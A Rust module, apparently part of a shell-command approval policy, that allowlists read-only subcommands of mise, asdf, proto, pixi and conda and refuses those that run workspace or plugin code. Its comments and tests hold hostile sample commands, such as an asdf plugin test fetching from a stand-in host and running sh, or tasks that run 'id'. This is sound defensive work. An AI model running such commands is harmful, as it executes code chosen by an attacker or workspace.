//! The subcommands of version managers and environment tools that pass: only the ones known to
//! select, list or print (attack review 5's 8). Their other subcommands run code or a command
//! the line or the workspace chooses: `mise tasks run`/`edit`, `mise generate git-pre-commit
//! --write` (a hook running a workspace task), `mise prepare`, `asdf plugin test x ./evil
//! "sh -c id"`, `proto run`/`exec`/`shell`, `conda build .`/`develop .`/`env create -f`
//! (workspace recipes and editable packages), `pixi install`; and a subcommand is reached by
//! its aliases too (`mise t run` is `mise tasks run`, `mise p ln` is `mise plugins link`).
//! So each tool's words are normalized by its documented aliases, global options before the
//! subcommand must be known ones (an unknown one may take the subcommand as its value), and the
//! subcommand path must be in the tool's list; everything else is refused.
//!
//! The `*env` family (pyenv, rbenv, ...) is checked by its own command list
//! ([`version_managers`](super::version_managers)); what the passing subcommands are given
//! (versions, not paths) is checked there too.

use super::git::keys::bounded;

/// One tool's command line: global options, aliases and the subcommands that pass.
struct Tool {
    /// Program names.
    programs: &'static [&'static str],
    /// Whether the program is a multi-call binary that reads its own command line only when
    /// called by one of `programs` (mise's shims are links to mise: `node x.js` runs node).
    by_typed_name: bool,
    /// Global options taking a value (`-C dir`, `--cd=dir`, `-j4`), as written with dashes.
    valued: &'static [&'static str],
    /// Global options taking none (`-q`, `--version`). A short cluster of them passes too.
    flags: &'static [&'static str],
    /// (alias, the subcommand it stands for), applied to each word of the subcommand path.
    aliases: &'static [(&'static str, &'static str)],
    /// Subcommands that take a subcommand of their own (`plugins`, `tasks`, `env`).
    groups: &'static [&'static str],
    /// The subcommand paths that pass, normalized (`ls`, `plugins ls`); a group alone passes
    /// when listed.
    passes: &'static [&'static str],
}

/// mise (and its former name rtx): aliases and commands from `mise --help` (2025).
const MISE: Tool = Tool {
    programs: &["mise", "rtx"],
    by_typed_name: true,
    valued: &[
        "-C",
        "--cd",
        "-E",
        "--env",
        "-j",
        "--jobs",
        "--log-level",
        "--output",
    ],
    flags: &[
        "-q",
        "--quiet",
        "-v",
        "--verbose",
        "-y",
        "--yes",
        "--debug",
        "--trace",
        "--raw",
        "--silent",
        "--no-config",
        "--locked",
        "--offline",
        "--no-progress",
        "-V",
        "--version",
        "-h",
        "--help",
    ],
    aliases: &[
        ("a", "alias"),
        ("b", "backends"),
        ("cfg", "config"),
        ("dr", "doctor"),
        ("e", "env"),
        ("g", "global"),
        ("gen", "generate"),
        ("i", "install"),
        ("list", "ls"),
        ("ln", "link"),
        ("p", "plugins"),
        ("plugin", "plugins"),
        ("r", "run"),
        ("rm", "uninstall"),
        ("remove", "uninstall"),
        ("sh", "shell"),
        ("t", "tasks"),
        ("task", "tasks"),
        ("u", "use"),
        ("up", "upgrade"),
        ("v", "version"),
        ("w", "watch"),
        ("x", "exec"),
        ("list-all", "ls-remote"),
        ("list-remote", "ls-remote"),
    ],
    groups: &[
        "plugins",
        "tasks",
        "backends",
        "alias",
        "config",
        "settings",
        "cache",
        "generate",
        "sync",
        "self-update",
        "tool",
        "env",
    ],
    passes: &[
        "use",
        "install",
        "uninstall",
        "local",
        "global",
        "shell",
        "ls",
        "ls-remote",
        "current",
        "latest",
        "where",
        "which",
        "version",
        "help",
        "doctor",
        "outdated",
        "bin-paths",
        "registry",
        "search",
        "completion",
        "activate",
        "deactivate",
        "reshim",
        "tool",
        "plugins",
        "plugins ls",
        "plugins ls-remote",
        "tasks",
        "tasks ls",
        "tasks info",
        "tasks deps",
        "backends",
        "backends ls",
        "alias",
        "alias ls",
        "alias get",
        "config",
        "config ls",
        "config get",
        "settings",
        "settings ls",
        "settings get",
    ],
};

/// asdf: commands from `asdf help` (0.16; the older hyphenated forms too). asdf reads no
/// global option.
const ASDF: Tool = Tool {
    programs: &["asdf"],
    by_typed_name: false,
    valued: &[],
    flags: &["-h", "--help", "-v", "--version"],
    aliases: &[
        ("plugin-list", "plugin list"),
        ("plugin-list-all", "plugin list all"),
        ("plugin-remove", "plugin remove"),
        ("list-all", "list all"),
    ],
    groups: &["plugin", "list"],
    passes: &[
        "current",
        "help",
        "info",
        "install",
        "latest",
        "list",
        "list all",
        "local",
        "global",
        "set",
        "shell",
        "uninstall",
        "where",
        "which",
        "version",
        "reshim",
        "shim-versions",
        "plugin list",
        "plugin list all",
        "plugin remove",
    ],
};

/// proto (moonrepo): commands and aliases from `proto --help` (0.4x).
const PROTO: Tool = Tool {
    programs: &["proto"],
    by_typed_name: false,
    valued: &["-c", "--config-mode", "--log", "--theme"],
    flags: &[
        "--json",
        "--dump",
        "-y",
        "--yes",
        "-V",
        "--version",
        "-h",
        "--help",
    ],
    aliases: &[
        ("i", "install"),
        ("ls", "list"),
        ("lsr", "list-remote"),
        ("r", "run"),
        ("up", "upgrade"),
        ("ui", "uninstall"),
        ("rm", "uninstall"),
    ],
    groups: &["plugin", "debug"],
    passes: &[
        "install",
        "uninstall",
        "list",
        "list-remote",
        "versions",
        "pin",
        "unpin",
        "alias",
        "unalias",
        "bin",
        "status",
        "outdated",
        "completions",
        "activate",
        "diagnose",
        "help",
        "plugin list",
        "plugin info",
        "plugin search",
        "debug config",
        "debug env",
    ],
};

/// pixi: commands and aliases from `pixi --help` (0.4x). Installing or locking builds the
/// workspace's own packages (editable and path dependencies), so only reading passes.
const PIXI: Tool = Tool {
    programs: &["pixi"],
    by_typed_name: false,
    valued: &["--color"],
    flags: &[
        "-v",
        "-vv",
        "-vvv",
        "--verbose",
        "-q",
        "--quiet",
        "--no-progress",
        "-V",
        "--version",
        "-h",
        "--help",
    ],
    aliases: &[
        ("a", "add"),
        ("i", "install"),
        ("ls", "list"),
        ("t", "tree"),
        ("r", "run"),
        ("s", "shell"),
        ("x", "exec"),
        ("g", "global"),
        ("rm", "remove"),
    ],
    groups: &["global", "task", "config"],
    passes: &[
        "list",
        "tree",
        "info",
        "search",
        "completion",
        "help",
        "task list",
        "config list",
        "config get",
        "global list",
    ],
};

/// conda, mamba and micromamba: commands from `conda --help` (24.x) and `micromamba --help`
/// (2.x). `build`, `develop`, `env create`/`update` (from a workspace file) and `run` run or
/// build the workspace's code; installing by package names passes.
const CONDA: Tool = Tool {
    programs: &["conda", "mamba", "micromamba"],
    by_typed_name: false,
    valued: &["-r", "--root-prefix", "--rc-file", "--log-level"],
    flags: &[
        "-v",
        "-vv",
        "--verbose",
        "-q",
        "--quiet",
        "--json",
        "--no-plugins",
        "--no-rc",
        "--no-env",
        "-y",
        "--yes",
        "-V",
        "--version",
        "-h",
        "--help",
    ],
    aliases: &[
        ("uninstall", "remove"),
        ("upgrade", "update"),
        ("ls", "list"),
    ],
    groups: &["env"],
    passes: &[
        "info",
        "list",
        "search",
        "help",
        "install",
        "create",
        "update",
        "remove",
        "clean",
        "activate",
        "deactivate",
        "env",
        "env list",
        "env remove",
    ],
};

/// Every tool whose subcommands are read here.
const TOOLS: &[&Tool] = &[&MISE, &ASDF, &PROTO, &PIXI, &CONDA];

/// The conda family's installing subcommands, given package names only: a `--file` (a spec
/// list, which may name a local package whose scripts run) or a path (a local package or
/// channel, `./x.conda`, `-c ./chan`) is refused.
const CONDA_INSTALLS: &[&str] = &["install", "create", "update"];

/// Whether `word` is the global option `option` (`-C`, `--cd`), alone or with its value
/// attached (`-Cdir`, `--cd=dir`).
fn option_with_value<'w>(word: &'w str, option: &str) -> Option<Option<&'w str>> {
    let rest = word.strip_prefix(option)?;
    match rest {
        "" => Some(None),
        _ if option.starts_with("--") => rest.strip_prefix('=').map(Some),
        _ => Some(Some(rest)),
    }
}

/// Whether the short cluster `word` (`-qy`) holds only flags of `tool`.
fn flag_cluster(tool: &Tool, word: &str) -> bool {
    let Some(letters) = word.strip_prefix('-').filter(|l| !l.starts_with('-')) else {
        return false;
    };
    !letters.is_empty()
        && letters
            .chars()
            .all(|letter| tool.flags.contains(&format!("-{letter}").as_str()))
}

/// A subcommand word with the tool's alias resolved (it may stand for two words).
fn normalized<'t>(tool: &'t Tool, word: &'t str) -> &'t str {
    tool.aliases
        .iter()
        .find(|(alias, _)| *alias == word)
        .map_or(word, |(_, full)| full)
}

/// Refuses a subcommand of a version manager or environment tool ([`TOOLS`]) that is not
/// known to select, list or print, or one reached past an unknown global option; `name` is one
/// of the program's names, `typed_name` the one it was called by. Other programs pass.
pub fn check_manager_command(name: &str, typed_name: &str, args: &[String]) -> Result<(), String> {
    let Some(tool) = TOOLS.iter().find(|tool| tool.programs.contains(&name)) else {
        return Ok(());
    };
    if tool.by_typed_name
        && !super::names::lookup_names(typed_name)
            .iter()
            .any(|typed| tool.programs.contains(&typed.as_str()))
    {
        return Ok(());
    }
    let mut words = args.iter().map(String::as_str).enumerate();
    // Global options before the subcommand: known ones only.
    let first = loop {
        let Some((at, word)) = words.next() else {
            return Ok(());
        };
        if word == "--" || !word.starts_with('-') || word == "-" {
            break (at, word);
        }
        if tool.flags.contains(&word) || flag_cluster(tool, word) {
            continue;
        }
        match tool
            .valued
            .iter()
            .find_map(|option| option_with_value(word, option))
        {
            Some(None) => {
                words.next();
            }
            Some(Some(_)) => {}
            None => {
                return Err(format!(
                    "`{name} {}` is no global option {name} is known to take before its subcommand: it may take the next word as its value and run another subcommand than the one read",
                    bounded(word)
                ))
            }
        }
    };
    let (at, word) = first;
    if word == "--" {
        return Err(format!(
            "`{name} --` runs what follows as the subcommand or a command: analyze that command on its own line"
        ));
    }
    let mut path: Vec<&str> = normalized(tool, word).split(' ').collect();
    if tool.groups.contains(&path[0]) && path.len() == 1 {
        match args.get(at + 1).map(String::as_str) {
            Some("-h" | "--help") | None => {}
            // An option before the group's subcommand may take the next word as its value:
            // only the group alone (`mise tasks --hidden`, a listing) passes so.
            Some(next) if next.starts_with('-') => {
                if args[at + 1..].iter().any(|w| !w.starts_with('-')) || next == "--" {
                    return Err(refusal(name, &args[at..=at + 1], &path.join(" ")));
                }
            }
            Some(next) => path.extend(normalized(tool, next).split(' ')),
        }
    }
    // asdf's `list all` and `plugin list all` are one path longer.
    if path.len() == 2
        && tool
            .passes
            .contains(&format!("{} all", path.join(" ")).as_str())
    {
        let consumed = at + path.len();
        if args.get(consumed).map(String::as_str) == Some("all") {
            path.push("all");
        }
    }
    let joined = path.join(" ");
    if !tool.passes.contains(&joined.as_str()) {
        let typed = &args[at..(at + path.len()).min(args.len())];
        return Err(refusal(name, typed, &joined));
    }
    if tool.programs == CONDA.programs && CONDA_INSTALLS.contains(&joined.as_str()) {
        return conda_names_only(name, &joined, &args[at + 1..]);
    }
    Ok(())
}

/// Why `name typed...` (normalized to `path`) is refused.
fn refusal(name: &str, typed: &[String], path: &str) -> String {
    let typed: Vec<String> = typed.iter().map(|w| bounded(w)).collect();
    let typed = typed.join(" ");
    let read = if typed == path {
        String::new()
    } else {
        format!(" (`{name} {path}`)")
    };
    format!(
        "`{name} {typed}`{read} is none of {name}'s subcommands known to only select, list or print: it may run code or a command that the line or the workspace chooses (tasks, hooks, plugins, recipes, editable packages); approve such a call per call"
    )
}

/// The conda family's installs given package names only ([`CONDA_INSTALLS`]).
fn conda_names_only(name: &str, sub: &str, args: &[String]) -> Result<(), String> {
    for arg in args {
        let option = arg.split_once('=').map_or(arg.as_str(), |(o, _)| o);
        let spec_file = option == "--file"
            || (option.starts_with('-') && !option.starts_with("--") && option.contains('f'));
        let value = arg.split_once('=').map_or(arg.as_str(), |(_, v)| v);
        let path = value.contains('/')
            || value.starts_with(['.', '~'])
            || value.to_ascii_lowercase().starts_with("file:");
        if spec_file || path {
            return Err(format!(
                "argument injection: `{name} {sub}` `{}` names a file, a local package or a channel by its path (a package's scripts run as it is installed): only package names pass",
                bounded(arg)
            ));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::shell::tests::argv;

    /// (program, arguments, whether approved, what the refusal names). Attack review 5's 8,
    /// its aliases and its class.
    const CASES: &[(&str, &str, bool, &str)] = &[
        ("mise", "t run build", false, "`mise tasks run`"),
        ("mise", "task run build", false, "`mise tasks run`"),
        ("mise", "p link node ./evil", false, "`mise plugins link`"),
        ("mise", "p ln node ./evil", false, "`mise plugins link`"),
        ("mise", "plugin ln node ./evil", false, "plugins link"),
        (
            "mise",
            "p i node /tmp/evil",
            false,
            "`mise plugins install`",
        ),
        ("mise", "plugins update", false, "plugins update"),
        ("mise", "generate git-pre-commit --write", false, "generate"),
        ("mise", "gen git-pre-commit --write", false, "generate"),
        ("mise", "tasks edit build", false, "tasks edit"),
        ("mise", "tasks add x -- id", false, "tasks add"),
        ("mise", "prepare", false, "mise prepare"),
        ("mise", "ln node ./evil", false, "`mise link`"),
        ("mise", "r build", false, "`mise run`"),
        ("mise", "w build", false, "`mise watch`"),
        ("mise", "build", false, "mise build"),
        (
            "mise",
            "config set env._.source ./x.sh",
            false,
            "config set",
        ),
        ("mise", "settings set x y", false, "settings set"),
        ("mise", "-q t run build", false, "tasks run"),
        ("mise", "--unknown ls run", false, "no global option"),
        ("mise", "-C ws t run build", false, "tasks run"),
        ("mise", "-Cws t run", false, "tasks run"),
        ("mise", "-- run", false, "mise --"),
        ("mise", "tasks --x run", false, "mise tasks --x"),
        ("rtx", "t run build", false, "tasks run"),
        ("asdf", "plugin test x ./evil", false, "plugin test"),
        (
            "asdf",
            "plugin test x https://e.invalid/p.git sh",
            false,
            "plugin test",
        ),
        ("asdf", "plugin-test x ./evil", false, "plugin-test"),
        ("asdf", "plugin update --all", false, "plugin update"),
        ("asdf", "nodejs import-keys", false, "asdf nodejs"),
        ("asdf", "update", false, "asdf update"),
        ("proto", "run node -- -e 1", false, "proto run"),
        ("proto", "r node", false, "`proto run`"),
        ("proto", "exec node", false, "proto exec"),
        ("proto", "shell", false, "proto shell"),
        ("proto", "plugin add x file://./p.wasm", false, "plugin add"),
        ("proto", "setup", false, "proto setup"),
        ("proto", "upgrade", false, "proto upgrade"),
        ("conda", "build .", false, "conda build"),
        ("conda", "develop .", false, "conda develop"),
        (
            "conda",
            "env create -f environment.yml",
            false,
            "env create",
        ),
        ("conda", "env update", false, "env update"),
        ("conda", "env config vars set X=1", false, "env config"),
        ("conda", "config --set x y", false, "conda config"),
        ("conda", "install ./pkg.conda", false, "./pkg.conda"),
        ("conda", "install -c ./chan numpy", false, "./chan"),
        ("conda", "install --file reqs.txt", false, "--file"),
        ("conda", "create -n x --file=reqs.txt", false, "--file"),
        ("conda", "install -c file:///tmp/c x", false, "file:"),
        ("conda", "index .", false, "conda index"),
        ("mamba", "env create -f env.yml", false, "env create"),
        ("micromamba", "env create -f env.yml", false, "env create"),
        ("micromamba", "create -f env.yml", false, "-f"),
        ("micromamba", "shell hook", false, "micromamba shell"),
        ("pixi", "install", false, "pixi install"),
        ("pixi", "i", false, "`pixi install`"),
        ("pixi", "add numpy", false, "pixi add"),
        ("pixi", "run build", false, "pixi run"),
        ("pixi", "shell-hook", false, "shell-hook"),
        ("pixi", "build", false, "pixi build"),
        ("pixi", "lock", false, "pixi lock"),
        ("pixi", "global install x", false, "global install"),
        // What only selects, lists or prints passes.
        ("mise", "use node@20", true, ""),
        ("mise", "u node@20", true, ""),
        ("mise", "install node@20", true, ""),
        ("mise", "ls", true, ""),
        ("mise", "list", true, ""),
        ("mise", "ls-remote node", true, ""),
        ("mise", "current", true, ""),
        ("mise", "which node", true, ""),
        ("mise", "--version", true, ""),
        ("mise", "", true, ""),
        ("mise", "-q -C sub ls", true, ""),
        ("mise", "--cd=sub ls", true, ""),
        ("mise", "-qy ls", true, ""),
        ("mise", "plugins ls", true, ""),
        ("mise", "p ls", true, ""),
        ("mise", "plugins", true, ""),
        ("mise", "tasks ls", true, ""),
        ("mise", "t", true, ""),
        ("mise", "tasks --help", true, ""),
        ("mise", "config get tools.node", true, ""),
        ("asdf", "current", true, ""),
        ("asdf", "plugin list", true, ""),
        ("asdf", "plugin list all", true, ""),
        ("asdf", "plugin-list-all", true, ""),
        ("asdf", "list all nodejs", true, ""),
        ("asdf", "install nodejs 20.11.0", true, ""),
        ("asdf", "--version", true, ""),
        ("proto", "install node 20", true, ""),
        ("proto", "ls node", true, ""),
        ("proto", "pin node 20", true, ""),
        ("proto", "plugin list", true, ""),
        ("conda", "list", true, ""),
        ("conda", "env list", true, ""),
        ("conda", "info --envs", true, ""),
        ("conda", "install -n base -c conda-forge numpy", true, ""),
        ("conda", "create -n py312 python=3.12", true, ""),
        ("conda", "install conda-forge::numpy", true, ""),
        ("conda", "--version", true, ""),
        ("micromamba", "env list", true, ""),
        ("micromamba", "install -y numpy", true, ""),
        ("pixi", "list", true, ""),
        ("pixi", "task list", true, ""),
        ("pixi", "info", true, ""),
        // Other programs are not read here.
        ("pyenv", "pwn", true, ""),
        ("npm", "run build", true, ""),
    ];

    #[test]
    fn only_subcommands_that_select_list_or_print_pass() {
        for (program, args, want, names) in CASES {
            let got = check_manager_command(program, program, &argv(args));
            assert_eq!(got.is_ok(), *want, "{program} {args}: {got:?}");
            if let Err(why) = got {
                assert!(
                    why.contains(names),
                    "{program} {args}: {why} (want {names})"
                );
            }
        }
        // mise's shims are links to mise, which runs the tool its name says.
        assert!(check_manager_command("mise", "node", &argv("x.js")).is_ok());
        assert!(check_manager_command("mise", "mise", &argv("x.js")).is_err());
        assert!(check_manager_command("asdf", "node", &argv("x.js")).is_err());
    }
}
